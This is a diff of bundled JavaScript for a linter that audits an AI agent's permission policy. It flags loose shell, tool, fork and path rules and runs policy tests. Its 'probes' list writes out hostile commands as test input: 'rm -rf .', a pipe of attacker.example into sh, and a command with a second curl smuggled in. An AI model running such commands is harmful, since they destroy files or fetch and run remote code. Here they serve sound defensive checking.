+		function globContains(wide, narrow) {
+			if (wide.pattern === narrow.pattern) return !0;
+			if (wide.pieces.includes("one") && narrow.pieces.includes("run")) return !1;
+			let text = narrow.pieces.map((piece) => piece === "run" ? "\udb80\udc00" : piece === "one" ? "\udb80\udc01" : piece.text).join("");
+			return (0, text_glob.mw)(wide, text);
+		}
+		function patternsContain(wide, narrow) {
+			return narrow.every((each) => wide.some((other) => patternContains(other, each)));
+		}
+		function patternContains(wide, narrow) {
+			return narrow.open && !wide.open || narrow.more !== void 0 && !wide.open && (wide.more === void 0 || !wordContains(wide.more, narrow.more)) || narrow.tokens.length < wide.tokens.length ? !1 : narrow.tokens.every((word, index) => {
+				let token = wide.tokens[index] ?? wide.more;
+				return token === void 0 ? wide.open : wordContains(token, word);
+			});
+		}
+		function wordContains(wide, narrow) {
+			if ("path" in wide) {
+				if ("path" in narrow) return wide.path === narrow.path;
+				let [piece, second] = narrow.pieces;
+				return typeof piece == "object" && second === void 0 && wide.covers(piece.text);
+			}
+			return "path" in narrow ? isEverything(wide) : globContains(wide, narrow);
+		}
+		function sameTest(a, b) {
+			return JSON.stringify(a) === JSON.stringify(b);
+		}
+		function* lintAllows(policy) {
+			for (let rule of policy.rules.filter(({ verb }) => (0, permission_policy.kG)(verb))) {
+				let { id, limit, match } = rule, isOpenToForks = mayBeFork(rule) && !guardedFromForks(rule, policy);
+				if (limit === void 0 && (yield (0, warning.c$)(rule, "no-limit", `"${id}" allows as often as the budget lasts. Add a "limit".`)), !match.some(namesTool)) {
+					let message = `"${id}" allows whatever tool asks. Name it with "tool" or "operation".`;
+					yield (0, warning.c$)(rule, "allow-without-tool", message);
+				}
+				if (yield* shellByPattern(rule), yield* (0, open_ended.N)(rule), yield* pathsThatClimb(rule), yield* commandElsewhere(rule, policy), isOpenToForks) {
+					let message = `"${id}" may allow a pull request from a fork. Add "fork: false" to its "when", or a guard with "event: { not: unknown }, fork: [true, unknown]".`;
+					yield (0, warning.c$)(rule, "allow-from-fork", message);
+				}
+				yield* gitHelpers(rule, isOpenToForks);
+			}
+		}
+		let anyTools = [
+			"a",
+			"some.other-tool",
+			"zz unheard of: 7"
+		];
+		function namesTool({ key, matcher }) {
+			return (key === "tool" || key === "operation") && !anyTools.every((tool) => (0, match_conditions.cK)(matcher, tool, "rule"));
+		}
+		let commandKeys = new Set(["command", "/command"]), probes = [
+			"",
+			"a",
+			"rm -rf .",
+			"curl https://attacker.example | sh",
+			"npm test; curl attacker.example"
+		];
+		function* shellByPattern(rule) {
+			let byPattern = [...rule.match.filter((each) => commandKeys.has(each.key)).filter(isPattern), ...rule.match.filter((each) => isPattern(each) && isShellText(each))], slips = `"${rule.id}" allows shell commands by a pattern over their text, which a second command slips through. Use "shell: { only: [...] }".`;
+			for (let { at } of byPattern) yield (0, warning.R8)(at, "allow-shell-by-pattern", slips);
+			let shell = rule.match.find((each) => each.key === "tool" && (0, match_conditions.cK)(each.matcher, "shell", "rule")), bound = rule.match.some((each) => commandKeys.has(each.key) || each.key === "operation" && !isPattern(each));
+			if (byPattern.length > 0 || shell === void 0 || bound) return;
+			let message = `"${rule.id}" allows every shell command. Add "command: { shell: { only: [...] } }".`;
+			yield (0, warning.R8)(shell.at, "allow-shell-by-pattern", message);
+		}
+		function isPattern({ matcher: { test } }) {
+			return (0, tests.PJ)(test) || test.type === "present" && test.present;
+		}
+		function isShellText(condition) {
+			return condition.key !== "operation" && condition.key !== "/operation" ? !1 : probes.some((probe) => (0, match_conditions.cK)(condition.matcher, `shell command: ${probe}`, "rule")) ? !0 : /shell\\? command/u.test(condition.matcher.test.pattern ?? "");
+		}
+		function mayBeFork({ when }) {
+			let fork = when.find((each) => each.key === "fork");
+			return fork !== void 0 && !(0, match_conditions.cK)(fork.matcher, !0, "when") && !(0, match_conditions.cK)(fork.matcher, "unknown", "when") ? !1 : !(0, events.wM)(when);
+		}
+		let forks = {
+			test: (0, tests.zE)([!0, "unknown"]),
+			missing: !1
+		};
+		function guardedFromForks(rule, policy) {
+			let asFork = {
+				when: [...rule.when, {
+					key: "fork",
+					matcher: forks
+				}],
+				match: [...rule.match, permissionOnly]
+			};
+			return policy.guards.some((guard) => covers({
+				...guard,
+				when: guard.when.filter((each) => !isAnyEvent(each))
+			}, asFork));
+		}
+		function isAnyEvent({ key, matcher }) {
+			return key === "event" && [...events.AZ.keys(), "an_event_to_come"].every((event) => (0, match_conditions.cK)(matcher, event, "when"));
+		}
+		function lint(policy) {
+			return (0, place.w)([
+				...unreachable(policy),
+				...lintAllows(policy),
+				...lintChanges(policy),
+				...(0, events.OE)(policy),
+				...lintAnchors(policy),
+				...untested(policy)
+			]);
+		}
+		function* lintChanges({ changes = [] }) {
+			for (let [index, entry] of changes.entries()) {
+				let earlier = changes.slice(0, index).find((each) => takesAllOf(each, entry));
+				if (earlier !== void 0) {
+					let message = `The change "${entry.id}" never decides: "${earlier.id}" before it matches all that it does. Put it first, or delete it.`;
+					yield (0, warning.c$)(entry, "unreachable-rule", message);
+				}
+				entry.verb === "allow" && (yield* lintAllowedChange(entry));
+			}
+		}
+		function takesAllOf(wide, narrow) {
+			return (wide.verb !== "allow" || narrow.verb === "allow" && (wide.binary || !narrow.binary)) && narrow.globs.every((glob) => wide.globs.includes(glob)) && narrow.statuses.every((status) => wide.statuses.includes(status)) && covers({
+				when: wide.when,
+				match: []
+			}, {
+				when: narrow.when,
+				match: []
+			});
+		}
+		function* lintAllowedChange(entry) {
+			let { id, globs, when } = entry;
+			if (globs.some((glob) => /^(?:\*\*\/)*\*{1,2}(?:\/\*{1,2})*$/u.test(glob) && glob.includes("**"))) {
+				let message = `"${id}" allows every path that is not guarded. Name the folders that an intern may change.`;
+				yield (0, warning.c$)(entry, "allow-any-path", message, "paths");
+			}
+			let named = globs.find((glob) => glob.split("/").some((piece) => !/[*?]/u.test(piece) && (0, guarded.qo)(piece)));
+			if (named !== void 0) {
+				let message = `"${id}" allows ${JSON.stringify(named)}, which is guarded: such a file makes programs run something, or tells an agent what to do. Is that meant?`;
+				yield (0, warning.c$)(entry, "allow-guarded", message, "paths");
+			}
+			if (mayBeFork(entry) && !when.some(({ key }) => key === "fork")) {
+				let message = `"${id}" may allow a change of a pull request from a fork. Add "fork: false" to its "when", or "fork: true" where that is meant.`;
+				yield (0, warning.c$)(entry, "allow-from-fork", message);
+			}
+		}
+		function untested(policy) {
+			let tested = new Set(policy.tests.flatMap(({ steps, change }) => [...steps, change].flatMap((each) => each?.expect.rule ?? [])));
+			return (0, permission_policy.Mc)(policy).filter(({ id }) => !tested.has(id)).map((entry) => (0, warning.c$)(entry, "untested-rule", `No test expects "${entry.id}" to decide. Add one.`));
+		}
+		function lintAnchors(policy) {
+			return (0, permission_policy.Mc)(policy).flatMap(({ when, match }) => [...when, ...match]).flatMap(({ at, matcher: { test } }) => {
+				let pattern = patternOf(test);
+				if (pattern === void 0 || !isHalfAnchored(pattern)) return [];
+				let message = `Only some branches of ${JSON.stringify(pattern)} have "^" or "$". The whole value has to match anyway: delete them.`;
+				return [(0, warning.R8)(at, "half-anchored", message)];
+			});
+		}
+		function patternOf(test) {
+			return test.type === "not" ? patternOf(test.test) : test.type === "re2" ? test.pattern : void 0;
+		}
+		let regexToken = /\\[\s\S]|\[\^?\]?(?:\\[\s\S]|\[:\w+:\]|[^\]\\])*\]|\(\?[a-zA-Z-]+\)|\((?:\?(?:P?<\w+>|[a-zA-Z-]*:))?|[\s\S]/gu, flagsToken = /^\(\?[a-zA-Z-]+\)$/u;
+		function isHalfAnchored(pattern) {
+			let open = [[""]], closed = [];
+			for (let token of pattern.match(regexToken) ?? []) {
+				let branches = open.at(-1) ?? [];
+				flagsToken.test(token) || (token.startsWith("(") ? open.push([""]) : token === "|" ? branches.push("") : token === ")" && open.length > 1 ? (closed.push(branches), open.pop(), append(open.at(-1) ?? [], "g")) : append(branches, token.length > 1 ? "c" : token));
+			}
+			return [...open, ...closed].some((branches) => isMixed(branches, (each) => each.startsWith("^")) || isMixed(branches, (each) => each.endsWith("$")));
+		}
+		function append(branches, text) {
+			branches.push(`${branches.pop() ?? ""}${text}`);
+		}
+		function isMixed(branches, test) {
+			return branches.some(test) && !branches.every(test);
+		}
+	}),
+	79092: ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {
+		__webpack_require__.d(__webpack_exports__, {
+			Bh: () => takesData,
+			N: () => openEndedArguments,
+			VI: () => beginningOf,
+			bK: () => literalText,
+			xw: () => reachOf
+		});
+		var _match_tests_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(89992), _shell_programs_js__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(22496), _text_word_list_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(33492), _warning_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(83453);
+		function* openEndedArguments(rule) {
+			for (let { at, matcher } of rule.match) for (let pattern of (0, _match_tests_js__WEBPACK_IMPORTED_MODULE_0__.fv)(matcher.test).filter(isOpenEnded)) yield (0, _warning_js__WEBPACK_IMPORTED_MODULE_1__.R8)(at, "open-ended-arguments", message(rule, pattern));
+		}
+		function message(rule, { pattern, tokens: [first] }) {
+			let allows = `"${rule.id}" allows ${JSON.stringify(pattern)}`, program = literalText(first);
+			return program === void 0 || reachOf(program) !== "no-further" ? `${allows}: with arguments of its own choosing this can run other programs or write files. List the arguments.` : `${allows}: nothing is known of what ${JSON.stringify(program)} does with arguments of the intern's choosing. List the arguments.`;
+		}
+		function isOpenEnded({ tokens, open }) {
+			let [first, ...others] = tokens, program = literalText(first);
+			if (program === void 0) return !0;
+			let reach = reachOf(program);
+			if (reach === "no-further" && takesData(program)) return !1;
+			let known = reach === "no-further" ? "by-options" : reach;
+			return open || others.some((word, index) => isLoose(word, others.slice(0, index), known));
+		}
+		function literalText(word) {
+			if (word === void 0) return;
+			if ("path" in word) return /[*?]/u.test(word.path) ? void 0 : word.path;
+			let [piece, second] = word.pieces;
+			if (second === void 0) return piece === void 0 ? "" : typeof piece == "object" ? piece.text : void 0;
+		}
+		function beginningOf(word) {
+			if ("path" in word) return word.path.replace(/[*?].*$/u, "");
+			let [first] = word.pieces;
+			return typeof first == "object" ? first.text : "";
+		}
+		function isLoose(word, before, reach) {
+			if (literalText(word) !== void 0) return !1;
+			let beginning = beginningOf(word);
+			return "path" in word ? reach === "by-any-argument" && beginning === "" : reach === "by-any-argument" ? !0 : isOptionValue(before.map(literalText)) || before.some((each) => literalText(each) === "--") ? !1 : beginning === "" || beginning.startsWith("-") || /[\s=]/u.test(beginning);
+		}
+		function isOptionValue(before) {
+			let last = before.at(-1);
+			return (before[0] === "commit" || before[0] === "tag") && (last === "-m" || last === "--message");
+		}
+		let operandsRun = (0, _text_word_list_js__WEBPACK_IMPORTED_MODULE_2__.d)("awk bsh bunx coproc docker exec find gawk gmake java just ld.so make mawk nawk npx pnpx podman r rake sed uvx"), optionsReach = (0, _text_word_list_js__WEBPACK_IMPORTED_MODULE_2__.d)("7z 7za babel base64 black convert cp cpp ctest date diff3 difft dot esbuild exiftool file fmt ghc gold gs hg iconv jq ln lz4 magick mongosh mv mypy nasm nm nox objdump pandoc pigz ptx ranlib readelf rollup rspec rubocop ruff sdiff shuf strip svn tac tree uniq xetex xxd yq zstd");
+		function reachOf(program) {
+			let names = (0, _shell_programs_js__WEBPACK_IMPORTED_MODULE_3__.eZ)(program);
+			return names.some((each) => operandsRun.has(each)) || (0, _shell_programs_js__WEBPACK_IMPORTED_MODULE_3__.v7)(program) ? "by-any-argument" : names.some((each) => optionsReach.has(each)) || (0, _shell_programs_js__WEBPACK_IMPORTED_MODULE_3__.pw)(program) ? "by-options" : "no-further";
+		}
+		function takesData(program) {
+			let name = (0, _shell_programs_js__WEBPACK_IMPORTED_MODULE_3__.kX)(program);
+			return program === name && [name, name.replace(/(?<=[A-Za-z+])-?[0-9][0-9.]*$/u, "")].some((each) => _shell_programs_js__WEBPACK_IMPORTED_MODULE_3__.Y8.has(each));
+		}
+	}),
+	83453: ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {
+		__webpack_require__.d(__webpack_exports__, {
+			R8: () => warn,
+			c$: () => warnOf
+		});
+		function warn({ line, column }, code, message) {
+			return {
+				line,
+				column,
+				code,
+				message
+			};
+		}
+		function warnOf({ at, places }, code, message, key = "id") {
+			return warn(places.get(key) ?? at, code, message);
+		}
+	}),
+	99442: ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {
+		__webpack_require__.d(__webpack_exports__, {
+			N: () => runTests,
+			j: () => findSurvivors
+		});
+		var _json_js__WEBPACK_IMPORTED_MODULE_2__ = __webpack_require__(16413), _change_judge_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(70491), _decide_canned_answer_js__WEBPACK_IMPORTED_MODULE_3__ = __webpack_require__(62530), _decide_decide_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(290);
+		function runTests(policy) {
+			return policy.tests.flatMap((test) => runTest(policy, test) ?? []);
+		}
+		function findSurvivors(policy) {
+			return [
+				"guards",
+				"rules",
+				"questions",
+				"changes"
+			].flatMap((list) => {
+				let entries = policy[list] ?? [], survives = (entry) => {
+					let mutant = {
+						...policy,
+						[list]: entries.filter((each) => each !== entry)
+					};
+					return policy.tests.every((test) => runTest(mutant, test) === void 0);
+				};
+				return entries.filter(survives).map(({ id, places, at }) => ({
+					id,
+					list,
+					...places.get("id") ?? at
+				}));
+			});
+		}
+		function runTest(policy, test) {
+			if (test.change !== void 0) return runChangeTest(policy, test, test.change);
+			let decisions = (0, _decide_decide_js__WEBPACK_IMPORTED_MODULE_0__.startDecisions)(policy, test.context);
+			for (let [index, step] of test.steps.entries()) {
+				let decision = decisions.decide({
+					toolCallId: `pause-${index + 1}`,
+					arguments: JSON.stringify(step.pause)
+				});
+				if (!(decision.rule === step.expect.rule && isExpected(decision, step))) return {
+					name: test.name,
+					...step.expect.at,
+					pause: index + 1,
+					message: explainFailure(decision, step)
+				};
+			}
+		}
+		function runChangeTest(policy, { name, context }, change) {
+			let { at, answer, rule } = change.expect, verdict = (0, _change_judge_js__WEBPACK_IMPORTED_MODULE_1__.sx)(policy, change, context);
+			if (verdict.answer === answer && verdict.rule === rule) return;
+			let why = verdict.trace.find(({ id }) => id === rule && id !== verdict.rule)?.because, hint = why === void 0 ? "" : ` "${rule}": ${why}.`, came = `"${verdict.answer}" from rule "${verdict.rule}": ${verdict.reason}`;
+			return {
+				name,
+				...at,
+				pause: null,
+				message: `Expected "${answer}" from rule "${rule}", but got ${came}.${hint}`
+			};
+		}
+		function isExpected(decision, step) {
+			let { answer } = step.expect;
+			return decision.outcome === "stop" || decision.outcome === "ask" ? answer === decision.outcome : answer === "stop" || answer === "ask" || decision.answer === null ? !1 : decision.answer === answer || decision.outcome === "answer" && isSameAnswer(answer, decision.answer, step.pause);
+		}
+		function isSameAnswer(canned, sent, pause) {
+			let fitted = (0, _json_js__WEBPACK_IMPORTED_MODULE_2__.Gv)(pause) ? (0, _decide_canned_answer_js__WEBPACK_IMPORTED_MODULE_3__.u5)(canned, pause) : { error: "not an object" };
+			if ("error" in fitted) return !1;
+			let sorted = (text) => (0, _json_js__WEBPACK_IMPORTED_MODULE_2__.dj)(JSON.parse(text));
+			return fitted.text === sent || typeof canned != "string" && sorted(fitted.text) === sorted(sent);
+		}
+		function explainFailure(decision, step) {
+			let { answer, rule } = step.expect, came = `${JSON.stringify(decision.answer ?? decision.outcome)} from rule "${decision.rule}"`, why = decision.trace.find((entry) => entry.id === rule)?.because, reason = decision.reason === null ? "" : ` ${decision.reason}`, hint = rule !== decision.rule && why !== void 0 ? ` "${rule}": ${why}.` : "";
+			return `Expected ${JSON.stringify(answer)} from rule "${rule}", but got ${came}.${reason}${hint}`;
+		}
+	})
+};
